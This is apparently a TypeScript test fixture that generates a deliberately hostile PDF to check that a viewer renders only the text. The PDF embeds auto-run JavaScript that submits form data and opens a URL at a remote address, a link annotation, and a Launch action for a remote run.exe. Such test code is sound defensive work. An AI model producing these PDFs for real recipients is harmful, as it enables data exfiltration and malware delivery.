// A PDF that tries to act when opened: a JavaScript OpenAction (and the same script in the
// document's name tree), a link annotation to a remote address and a launch action, over an
// ordinary text page. A viewer must show the text and do none of it.
export function hostilePdf(lines: string[], remote: string): Uint8Array {
  const esc = (s: string) => s.replace(/[\\()]/g, (c) => `\\${c}`);
  const stream = `BT /F1 12 Tf 72 720 Td 14 TL ${lines.map((l) => `(${esc(l)}) Tj T*`).join(' ')} ET`;
  const js = esc(
    `app.alert('pdf script ran'); this.submitForm('${remote}/submit'); app.launchURL('${remote}/launch', true);`,
  );
  const objects = [
    '',
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(hello) 6 0 R] >> >> /AA << /WC 6 0 R >> >>`,
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R /Annots [7 0 R 8 0 R] /AA << /O 6 0 R >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    `<< /Type /Action /S /JavaScript /JS (${js}) >>`,
    `<< /Type /Annot /Subtype /Link /Rect [72 690 400 740] /Border [0 0 0] /A << /S /URI /URI (${esc(remote)}/link) >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [72 600 400 680] /A << /S /Launch /F (${esc(remote)}/run.exe) >> >>`,
  ];
  let out = '%PDF-1.7\n';
  const offsets: number[] = [];
  for (let id = 1; id < objects.length; id++) {
    offsets[id] = out.length;
    out += `${id} 0 obj\n${objects[id]}\nendobj\n`;
  }
  const xref = out.length;
  out += `xref\n0 ${objects.length}\n0000000000 65535 f \n`;
  for (let id = 1; id < objects.length; id++) out += `${String(offsets[id]).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return new TextEncoder().encode(out);
}
